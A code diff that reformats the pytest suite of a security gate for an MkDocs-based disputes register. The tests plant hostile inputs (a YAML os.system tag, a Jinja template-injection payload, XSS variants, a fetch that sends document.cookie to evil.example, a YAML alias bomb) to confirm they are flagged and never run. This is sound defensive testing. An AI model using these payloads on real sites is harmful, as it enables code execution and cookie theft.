@@ -46,8 +46,9 @@ def marker(tmp_path: Path) -> Path:
 
 def check(repo: GitRepo, fmt: str = "json") -> tuple[int, str]:
     """`disputes check --base main --strict`, as the shipped workflow runs it."""
-    result = CliRunner().invoke(main, ["check", "--base", "main", "--strict", "--format", fmt,
-                                       "--root", str(repo.path)])
+    result = CliRunner().invoke(
+        main, ["check", "--base", "main", "--strict", "--format", fmt, "--root", str(repo.path)]
+    )
     assert result.exit_code in (0, 1), result.output  # never a traceback
     return result.exit_code, result.stdout
 
@@ -69,21 +70,25 @@ def edit_record(repo: GitRepo) -> None:
 
 # --- code that would run inside the gate ------------------------------------------------
 
+
 def test_a_hooks_file_is_not_run_and_needs_review(repo: GitRepo, marker: Path) -> None:
-    repo.write("hooks/tidy.py", f"from pathlib import Path\nPath({str(marker)!r}).write_text('x')\n")
+    repo.write(
+        "hooks/tidy.py", f"from pathlib import Path\nPath({str(marker)!r}).write_text('x')\n"
+    )
     append(repo, "mkdocs.yml", "hooks:\n  - hooks/tidy.py\n")
     repo.commit("Tidy the site")
     code, issues = found(repo)
     assert not marker.exists()
     assert code == 0  # alone, it is an administrator's decision, not a failure
-    assert [(f, s) for f, s, _ in issues] == [("hooks/tidy.py", "review"),
-                                              ("mkdocs.yml", "review")]
+    assert [(f, s) for f, s, _ in issues] == [("hooks/tidy.py", "review"), ("mkdocs.yml", "review")]
     assert issues[0][2].startswith("Python code. Ask an administrator to review it")
     assert issues[1][2].startswith("`hooks:` makes MkDocs import and run these Python files")
 
 
 def test_a_hooks_file_beside_a_record_is_refused(repo: GitRepo, marker: Path) -> None:
-    repo.write("hooks/tidy.py", f"from pathlib import Path\nPath({str(marker)!r}).write_text('x')\n")
+    repo.write(
+        "hooks/tidy.py", f"from pathlib import Path\nPath({str(marker)!r}).write_text('x')\n"
+    )
     append(repo, "mkdocs.yml", "hooks:\n  - hooks/tidy.py\n")
     edit_record(repo)
     repo.commit("A record, and tidy the site")
@@ -93,11 +98,11 @@ def test_a_hooks_file_beside_a_record_is_refused(repo: GitRepo, marker: Path) ->
     assert issues == [("hooks/tidy.py", "error", MIXED), ("mkdocs.yml", "error", MIXED)]
 
 
-def test_a_python_tag_in_mkdocs_yml_is_not_run_and_is_refused(repo: GitRepo, marker: Path
-                                                               ) -> None:
+def test_a_python_tag_in_mkdocs_yml_is_not_run_and_is_refused(repo: GitRepo, marker: Path) -> None:
     text = repo.read("mkdocs.yml").replace(
         "site_name: Professional disagreements register",
-        f'site_name: !!python/object/apply:os.system ["touch {marker}"]')
+        f'site_name: !!python/object/apply:os.system ["touch {marker}"]',
+    )
     repo.write("mkdocs.yml", text)
     repo.commit("Rename the site")
     code, output = check(repo, "text")
@@ -105,7 +110,8 @@ def test_a_python_tag_in_mkdocs_yml_is_not_run_and_is_refused(repo: GitRepo, mar
     assert code == 1
     assert output.startswith(
         "mkdocs.yml:4: site_name: the tag !!python/object/apply:os.system makes MkDocs run "
-        "Python when it reads this file (the check reads it as text, and it ran nothing)")
+        "Python when it reads this file (the check reads it as text, and it ran nothing)"
+    )
 
 
 @pytest.mark.parametrize("tag", ["!!python/name:os.system", "!!python/module:os"])
@@ -113,15 +119,24 @@ def test_any_python_tag_is_refused(repo: GitRepo, tag: str) -> None:
     append(repo, "mkdocs.yml", f"extra:\n  x: {tag} ''\n")
     repo.commit("Extra")
     code, issues = found(repo)
-    assert code == 1 and issues[0][0] == "mkdocs.yml" and f"the tag {tag.split(':')[0]}" in (
-        issues[0][2])
+    assert (
+        code == 1
+        and issues[0][0] == "mkdocs.yml"
+        and f"the tag {tag.split(':')[0]}" in (issues[0][2])
+    )
 
 
 def test_a_theme_template_is_not_rendered_and_needs_review(repo: GitRepo, marker: Path) -> None:
-    repo.write("overrides/main.html",  # every page is rendered with this template
-               f"{{{{ cycler.__init__.__globals__.os.system('touch {marker}') }}}}\n")
-    repo.write("mkdocs.yml", repo.read("mkdocs.yml").replace(
-        "  name: material\n", "  name: material\n  custom_dir: overrides\n"))
+    repo.write(
+        "overrides/main.html",  # every page is rendered with this template
+        f"{{{{ cycler.__init__.__globals__.os.system('touch {marker}') }}}}\n",
+    )
+    repo.write(
+        "mkdocs.yml",
+        repo.read("mkdocs.yml").replace(
+            "  name: material\n", "  name: material\n  custom_dir: overrides\n"
+        ),
+    )
     repo.commit("Our own footer")
     code, output = check(repo, "text")
     assert not marker.exists()
@@ -131,28 +146,49 @@ def test_a_theme_template_is_not_rendered_and_needs_review(repo: GitRepo, marker
         "mkdocs.yml:10: theme.custom_dir: needs an administrator's review: templates from this "
         "folder (Jinja, HTML and script) replace the theme's own and render every page (after "
         "merging, the site workflow runs it with permission to publish). Ask an administrator "
-        "to review this change to the site's settings before it is merged")
+        "to review this change to the site's settings before it is merged"
+    )
     assert lines[1].startswith("overrides/main.html:1: needs an administrator's review: ")
-    assert lines[-1] == "2 changes for an administrator to review in 2 files (0 record files checked)."
+    assert (
+        lines[-1] == "2 changes for an administrator to review in 2 files (0 record files checked)."
+    )
 
 
-@pytest.mark.parametrize(("added", "flagged"), [
-    ("plugins:\n  - macros\n", "plugin `macros` is not one the register ships"),
-    ("markdown_extensions:\n  - pymdownx.snippets:\n      base_path: [/]\n",
-     "Markdown extension `pymdownx.snippets` is not on the register's list"),
-    ("extra_javascript:\n  - https://example.org/track.js\n", "scripts added to every page"),
-    ("extra_templates:\n  - robots.txt\n", "Jinja templates MkDocs renders"),
-    ("INHERIT: elsewhere.yml\n", "another file's settings merged into these ones"),
-    ("docs_dir: tools\n", "a different folder of pages"),
-    ("copyright: <img src=x onerror=alert(1)>\n", "line 1: `<img src=x onerror=alert(1)>`"),
-    ("nav:\n  - Home: javascript:alert(1)\n", "line 1: `javascript:`"),
-    ("site_description: 'x\" onfocus=\"alert(1)'\n", "line 1: `onfocus=`"),
-    ("theme:\n  name: readthedocs\n", "a different theme"),
-    ("unknown_setting: 1\n", "a setting MkDocs or its theme reads"),
-], ids=["plugin", "extension", "extra_javascript", "extra_templates", "INHERIT", "docs_dir",
-        "copyright-html", "nav-script-link", "attribute-breakout", "theme", "unknown-key"])
+@pytest.mark.parametrize(
+    ("added", "flagged"),
+    [
+        ("plugins:\n  - macros\n", "plugin `macros` is not one the register ships"),
+        (
+            "markdown_extensions:\n  - pymdownx.snippets:\n      base_path: [/]\n",
+            "Markdown extension `pymdownx.snippets` is not on the register's list",
+        ),
+        ("extra_javascript:\n  - https://example.org/track.js\n", "scripts added to every page"),
+        ("extra_templates:\n  - robots.txt\n", "Jinja templates MkDocs renders"),
+        ("INHERIT: elsewhere.yml\n", "another file's settings merged into these ones"),
+        ("docs_dir: tools\n", "a different folder of pages"),
+        ("copyright: <img src=x onerror=alert(1)>\n", "line 1: `<img src=x onerror=alert(1)>`"),
+        ("nav:\n  - Home: javascript:alert(1)\n", "line 1: `javascript:`"),
+        ("site_description: 'x\" onfocus=\"alert(1)'\n", "line 1: `onfocus=`"),
+        ("theme:\n  name: readthedocs\n", "a different theme"),
+        ("unknown_setting: 1\n", "a setting MkDocs or its theme reads"),
+    ],
+    ids=[
+        "plugin",
+        "extension",
+        "extra_javascript",
+        "extra_templates",
+        "INHERIT",
+        "docs_dir",
+        "copyright-html",
+        "nav-script-link",
+        "attribute-breakout",
+        "theme",
+        "unknown-key",
+    ],
+)
 def test_what_can_run_code_or_script_in_mkdocs_yml_needs_review(
-        repo: GitRepo, added: str, flagged: str) -> None:
+    repo: GitRepo, added: str, flagged: str
+) -> None:
     append(repo, "mkdocs.yml", added)  # a repeated key replaces the first, as in MkDocs
     repo.commit("Site settings")
     code, issues = found(repo)
@@ -162,21 +198,29 @@ def test_what_can_run_code_or_script_in_mkdocs_yml_needs_review(
 
 
 def test_publishing_emails_through_the_plugin_needs_review(repo: GitRepo) -> None:
-    repo.write("mkdocs.yml", repo.read("mkdocs.yml").replace("show_emails: false",
-                                                             "show_emails: true"))
+    repo.write(
+        "mkdocs.yml", repo.read("mkdocs.yml").replace("show_emails: false", "show_emails: true")
+    )
     repo.commit("Show emails")
     code, issues = found(repo)
     assert code == 0 and [(f, s) for f, s, _ in issues] == [("mkdocs.yml", "review")]
     assert "the register plugin's options decide what the site publishes" in issues[0][2]
 
 
-@pytest.mark.parametrize(("old", "new"), [
-    ("site_name: Professional disagreements register", "site_name: Kent disagreements register"),
-    ("docs_dir: site\n", "docs_dir: site\nrepo_url: https://github.com/partnership/register\n"),
-    ("primary: indigo", "primary: teal"),
-    ("      permalink: true", "      permalink: true\n  - abbr\n  - def_list"),
-    ("  - search\n", "  - search:\n      lang: en\n"),
-], ids=["site-name", "repo-url", "palette", "plain-extensions", "search-options"])
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        (
+            "site_name: Professional disagreements register",
+            "site_name: Kent disagreements register",
+        ),
+        ("docs_dir: site\n", "docs_dir: site\nrepo_url: https://github.com/partnership/register\n"),
+        ("primary: indigo", "primary: teal"),
+        ("      permalink: true", "      permalink: true\n  - abbr\n  - def_list"),
+        ("  - search\n", "  - search:\n      lang: en\n"),
+    ],
+    ids=["site-name", "repo-url", "palette", "plain-extensions", "search-options"],
+)
 def test_honest_site_settings_pass(repo: GitRepo, old: str, new: str) -> None:
     """What the administrator's guide asks for (repo_url) and other plain settings; the
     `!ENV` tags of the shipped file are read as data, not refused."""
@@ -215,12 +259,25 @@ def test_a_script_in_a_page_beside_a_record_is_refused(repo: GitRepo) -> None:
     assert found(repo) == (1, [("site/guides/manager.md", "error", MIXED)])
 
 
-@pytest.mark.parametrize("added", [
-    '[Open the form](#){ onclick="alert(1)" }', "[help](javascript:alert(1))",
-    "[help](&#106;avascript:alert(1))", '<a href="x" onmouseover="alert(1)">help</a>',
-    "<iframe src=https://evil.example></iframe>", "<svg><script>alert(1)</script></svg>",
-], ids=["attr-list-handler", "script-link", "encoded-script-link", "event-handler", "iframe",
-        "svg"])
+@pytest.mark.parametrize(
+    "added",
+    [
+        '[Open the form](#){ onclick="alert(1)" }',
+        "[help](javascript:alert(1))",
+        "[help](&#106;avascript:alert(1))",
+        '<a href="x" onmouseover="alert(1)">help</a>',
+        "<iframe src=https://evil.example></iframe>",
+        "<svg><script>alert(1)</script></svg>",
+    ],
+    ids=[
+        "attr-list-handler",
+        "script-link",
+        "encoded-script-link",
+        "event-handler",
+        "iframe",
+        "svg",
+    ],
+)
 def test_script_variants_in_a_page_need_review(repo: GitRepo, added: str) -> None:
     append(repo, "site/guides/manager.md", f"\n{added}\n")
     repo.commit("A note")
@@ -233,8 +290,12 @@ def test_new_code_inside_a_script_element_the_page_had_needs_review(repo: GitRep
     append(repo, "site/policy.md", "\n<script>\nconsole.log('reviewed');\n</script>\n")
     repo.commit("Reviewed by the administrator")
     repo.git("checkout", "-q", "-B", "pr")
-    repo.write("site/policy.md", repo.read("site/policy.md").replace(
-        "console.log('reviewed');", "fetch('https://evil.example/?' + document.cookie);"))
+    repo.write(
+        "site/policy.md",
+        repo.read("site/policy.md").replace(
+            "console.log('reviewed');", "fetch('https://evil.example/?' + document.cookie);"
+        ),
+    )
     repo.commit("Same script")
     code, issues = found(repo)
     assert code == 0 and [(f, s) for f, s, _ in issues] == [("site/policy.md", "review")]
@@ -246,10 +307,17 @@ def test_a_script_file_beside_the_pages_needs_review(repo: GitRepo) -> None:
     repo.commit("Faster form")
     code, issues = found(repo)
     assert code == 0
-    assert issues == [("site/assets/new-record.js", "review", (
-        "a file under site/ that is not a Markdown page is published as it is: a script, style "
-        "sheet, HTML or SVG file there runs in every reader's browser on both sites. Ask an "
-        "administrator to review it before it is merged"))]
+    assert issues == [
+        (
+            "site/assets/new-record.js",
+            "review",
+            (
+                "a file under site/ that is not a Markdown page is published as it is: a script, style "
+                "sheet, HTML or SVG file there runs in every reader's browser on both sites. Ask an "
+                "administrator to review it before it is merged"
+            ),
+        )
+    ]
 
 
 def test_a_page_that_is_a_symbolic_link_needs_review(repo: GitRepo) -> None:
@@ -257,26 +325,42 @@ def test_a_page_that_is_a_symbolic_link_needs_review(repo: GitRepo) -> None:
     repo.commit("Show the record")
     code, issues = found(repo)
     assert code == 0
-    assert issues == [("site/leak.md", "review", (
-        "this is a symbolic link or a submodule: what it points to is not in the change, so "
-        "the check cannot read it. Ask an administrator to review it before it is merged"))]
+    assert issues == [
+        (
+            "site/leak.md",
+            "review",
+            (
+                "this is a symbolic link or a submodule: what it points to is not in the change, so "
+                "the check cannot read it. Ask an administrator to review it before it is merged"
+            ),
+        )
+    ]
 
 
 BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
     f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
-    for p, c in zip("abcdefgh", "bcdefghi", strict=True))
+    for p, c in zip("abcdefgh", "bcdefghi", strict=True)
+)
 
 
-@pytest.mark.parametrize(("path", "payload", "said"), [
-    ("schema/agencies.yml", BOMB, "YAML anchors and aliases (& and *) are not allowed here"),
-    ("schema/policy.yml", "deep: " + "[" * 100_000 + "]" * 100_000 + "\n",
-     "nested more than 32 levels deep"),
-    ("mkdocs.yml", BOMB, "YAML anchors and aliases (& and *) are not read by the check"),
-    ("mkdocs.yml", "deep: " + "[" * 100_000 + "]" * 100_000 + "\n", "nested more than 32"),
-    ("schema/dispute.schema.json", "[" * 100_000 + "]" * 100_000, "nested too deeply"),
-], ids=["agencies-alias-bomb", "policy-deep", "mkdocs-alias-bomb", "mkdocs-deep", "schema-deep"])
+@pytest.mark.parametrize(
+    ("path", "payload", "said"),
+    [
+        ("schema/agencies.yml", BOMB, "YAML anchors and aliases (& and *) are not allowed here"),
+        (
+            "schema/policy.yml",
+            "deep: " + "[" * 100_000 + "]" * 100_000 + "\n",
+            "nested more than 32 levels deep",
+        ),
+        ("mkdocs.yml", BOMB, "YAML anchors and aliases (& and *) are not read by the check"),
+        ("mkdocs.yml", "deep: " + "[" * 100_000 + "]" * 100_000 + "\n", "nested more than 32"),
+        ("schema/dispute.schema.json", "[" * 100_000 + "]" * 100_000, "nested too deeply"),
+    ],
+    ids=["agencies-alias-bomb", "policy-deep", "mkdocs-alias-bomb", "mkdocs-deep", "schema-deep"],
+)
 def test_configuration_that_would_stall_or_crash_a_parser_is_an_error(
-        repo: GitRepo, path: str, payload: str, said: str) -> None:
+    repo: GitRepo, path: str, payload: str, said: str
+) -> None:
     if path.endswith(".json"):
         repo.write(path, payload)
     else:
@@ -300,15 +384,32 @@ def test_a_register_below_the_top_names_outside_paths_apart(tmp_path: Path) -> N
     made.write("site/notes.md", "# Notes\n\nPlain words.\n")
     made.write(".github/workflows/other.yml", "on: push\n")
     made.commit("Notes")
-    result = CliRunner().invoke(main, ["check", "--base", "main", "--strict", "--format", "json",
-                                       "--root", str(made.path / "reg")])
+    result = CliRunner().invoke(
+        main,
+        [
+            "check",
+            "--base",
+            "main",
+            "--strict",
+            "--format",
+            "json",
+            "--root",
+            str(made.path / "reg"),
+        ],
+    )
     assert result.exit_code == 0, result.output
-    issues = {(i["file"], i["severity"], i["message"].split(" (")[0].split(".")[0])
-              for i in json.loads(result.stdout)}
-    assert issues == {("site/notes.md", "review", "this page now holds HTML or script"),
-                      ("../.github/workflows/other.yml", "review",
-                       "GitHub reads this folder: its workflows run with the repository's "
-                       "permissions")}
+    issues = {
+        (i["file"], i["severity"], i["message"].split(" (")[0].split(".")[0])
+        for i in json.loads(result.stdout)
+    }
+    assert issues == {
+        ("site/notes.md", "review", "this page now holds HTML or script"),
+        (
+            "../.github/workflows/other.yml",
+            "review",
+            "GitHub reads this folder: its workflows run with the repository's permissions",
+        ),
+    }
 
 
 # --- code and packaging beside records ------------------------------------------------------
@@ -334,24 +435,28 @@ def test_anything_outside_records_beside_a_record_is_refused(repo: GitRepo, path
 def test_each_path_beside_a_record_is_named(repo: GitRepo) -> None:
     for path, text in OUTSIDE.items():
         append(repo, path, text)
-    repo.write("records/2026/PD-2026-0008.md", fixture_record().replace("PD-2026-0007",
-                                                                        "PD-2026-0008"))
+    repo.write(
+        "records/2026/PD-2026-0008.md", fixture_record().replace("PD-2026-0007", "PD-2026-0008")
+    )
     repo.commit("A record, and everything else")
     code, issues = found(repo)
     assert code == 1 and issues == [(path, "error", MIXED) for path in sorted(OUTSIDE)]
 
 
-@pytest.mark.parametrize(("path", "why"), [
-    ("tools/disputes/history/signoffs.py", "the tool's own code"),
-    ("pyproject.toml", "packaging: what is installed"),
-    (".pre-commit-config.yaml", "pre-commit hooks: commands that run on the computer"),
-    ("examples/gitlab-ci.yml", "continuous-integration set-ups"),
-    ("tests/test_check.py", "the tool's tests"),
-    (".github/workflows/pr-check.yml", "GitHub reads this folder"),
-    ("requirements.txt", "the pin: which release of the tool"),
-    # A .txt read as a document would let a change of dependency versions pass unreviewed.
-    ("constraints.txt", "the versions of the tool's dependencies"),
-])
+@pytest.mark.parametrize(
+    ("path", "why"),
+    [
+        ("tools/disputes/history/signoffs.py", "the tool's own code"),
+        ("pyproject.toml", "packaging: what is installed"),
+        (".pre-commit-config.yaml", "pre-commit hooks: commands that run on the computer"),
+        ("examples/gitlab-ci.yml", "continuous-integration set-ups"),
+        ("tests/test_check.py", "the tool's tests"),
+        (".github/workflows/pr-check.yml", "GitHub reads this folder"),
+        ("requirements.txt", "the pin: which release of the tool"),
+        # A .txt read as a document would let a change of dependency versions pass unreviewed.
+        ("constraints.txt", "the versions of the tool's dependencies"),
+    ],
+)
 def test_code_and_packaging_alone_need_review(repo: GitRepo, path: str, why: str) -> None:
     append(repo, path, "\n# changed\n")
     repo.commit("Maintenance")
@@ -364,9 +469,13 @@ def test_code_and_packaging_alone_need_review(repo: GitRepo, path: str, why: str
 
 # --- nothing of the branch is imported, built or run -----------------------------------------
 
-def test_the_gate_starts_only_git(repo: GitRepo, monkeypatch: pytest.MonkeyPatch,
-                                  marker: Path) -> None:
-    repo.write("hooks/tidy.py", f"from pathlib import Path\nPath({str(marker)!r}).write_text('x')\n")
+
+def test_the_gate_starts_only_git(
+    repo: GitRepo, monkeypatch: pytest.MonkeyPatch, marker: Path
+) -> None:
+    repo.write(
+        "hooks/tidy.py", f"from pathlib import Path\nPath({str(marker)!r}).write_text('x')\n"
+    )
     append(repo, "mkdocs.yml", "hooks:\n  - hooks/tidy.py\n")
     append(repo, "site/guides/manager.md", SCRIPT)
     repo.commit("Tidy the site")
@@ -393,31 +502,43 @@ print(code, loaded)
 
 def test_the_gate_loads_nothing_of_mkdocs_or_the_branch(repo: GitRepo, marker: Path) -> None:
     """A fresh interpreter: what the check imports while it runs is all it imports."""
-    repo.write("hooks/tidy.py", f"from pathlib import Path\nPath({str(marker)!r}).write_text('x')\n")
+    repo.write(
+        "hooks/tidy.py", f"from pathlib import Path\nPath({str(marker)!r}).write_text('x')\n"
+    )
     append(repo, "mkdocs.yml", "hooks:\n  - hooks/tidy.py\nplugins:\n  - search\n  - tags\n")
     append(repo, "site/guides/manager.md", SCRIPT)
     repo.commit("Tidy the site")
-    done = subprocess.run([sys.executable, "-c", SPY, str(repo.path)], capture_output=True,
-                          text=True, cwd=repo.path, check=True,
-                          env={**os.environ, "PYTHONPATH": str(REPO_ROOT / "tools")})
+    done = subprocess.run(
+        [sys.executable, "-c", SPY, str(repo.path)],
+        capture_output=True,
+        text=True,
+        cwd=repo.path,
+        check=True,
+        env={**os.environ, "PYTHONPATH": str(REPO_ROOT / "tools")},
+    )
     assert done.stdout.splitlines()[-1] == "0 []", done.stdout
     assert not marker.exists()
 
 
 # --- honest configuration changes pass --strict ---------------------------------------------
 
+
 def test_a_new_agency_alone_passes(repo: GitRepo) -> None:
     agencies = repo.read("schema/agencies.yml")
-    repo.write("schema/agencies.yml", agencies.replace("  - Ambulance Service\n",
-                                                       "  - Ambulance Service\n  - Fire Service\n"))
+    repo.write(
+        "schema/agencies.yml",
+        agencies.replace("  - Ambulance Service\n", "  - Ambulance Service\n  - Fire Service\n"),
+    )
     repo.commit("Add the fire service")
     assert check(repo, "text") == (0, "1 record checked: no problems found.\n")
 
 
 def test_a_changed_timescale_alone_passes(repo: GitRepo) -> None:
     policy = repo.read("schema/policy.yml")
-    repo.write("schema/policy.yml", policy.replace("{amount: 14, unit: days}",
-                                                   "{amount: 10, unit: working_days}"))
+    repo.write(
+        "schema/policy.yml",
+        policy.replace("{amount: 14, unit: days}", "{amount: 10, unit: working_days}"),
+    )
     repo.commit("Stage 4 has ten working days")
     assert found(repo) == (0, [])
 
@@ -425,16 +546,18 @@ def test_a_changed_timescale_alone_passes(repo: GitRepo) -> None:
 def test_a_schema_change_that_keeps_every_record_valid_passes(repo: GitRepo) -> None:
     schema = repo.read("schema/dispute.schema.json")
     assert '"maxLength": 200' in schema
-    repo.write("schema/dispute.schema.json", schema.replace('"maxLength": 200', '"maxLength": 300',
-                                                            1))
+    repo.write(
+        "schema/dispute.schema.json", schema.replace('"maxLength": 200', '"maxLength": 300', 1)
+    )
     repo.commit("Longer titles")
     assert found(repo) == (0, [])
 
 
 def test_a_schema_change_that_breaks_a_record_fails_naming_it(repo: GitRepo) -> None:
     schema = repo.read("schema/dispute.schema.json")
-    repo.write("schema/dispute.schema.json", schema.replace('"maxLength": 200', '"maxLength": 5',
-                                                            1))
+    repo.write(
+        "schema/dispute.schema.json", schema.replace('"maxLength": 200', '"maxLength": 5', 1)
+    )
     repo.commit("Short titles")
     code, issues = found(repo)
     assert code == 1
@@ -470,16 +593,24 @@ def test_an_unchanged_page_with_html_is_not_flagged_again(repo: GitRepo) -> None
 
 # --- the shipped workflows build main only -------------------------------------------------
 
+
 def test_the_site_is_built_from_main_only_and_never_in_the_pull_request_check() -> None:
     import yaml
 
     site = yaml.safe_load((REPO_ROOT / ".github/workflows/site.yml").read_text())
-    checkouts = [step for job in site["jobs"].values() for step in job["steps"]
-                 if str(step.get("uses", "")).startswith("actions/checkout")]
+    checkouts = [
+        step
+        for job in site["jobs"].values()
+        for step in job["steps"]
+        if str(step.get("uses", "")).startswith("actions/checkout")
+    ]
     assert checkouts and all(step["with"]["ref"] == "main" for step in checkouts)
     check_text = (REPO_ROOT / ".github/workflows/pr-check.yml").read_text()
-    runs = "\n".join(step.get("run", "") for job in yaml.safe_load(check_text)["jobs"].values()
-                     for step in job["steps"])
+    runs = "\n".join(
+        step.get("run", "")
+        for job in yaml.safe_load(check_text)["jobs"].values()
+        for step in job["steps"]
+    )
     assert "disputes build" not in runs and "mkdocs" not in runs
     # the tool as the target branch pins it, installed from that branch's own checkout
     assert 'git worktree add --detach "$RUNNER_TEMP/base" "origin/${{ github.base_ref }}"' in runs
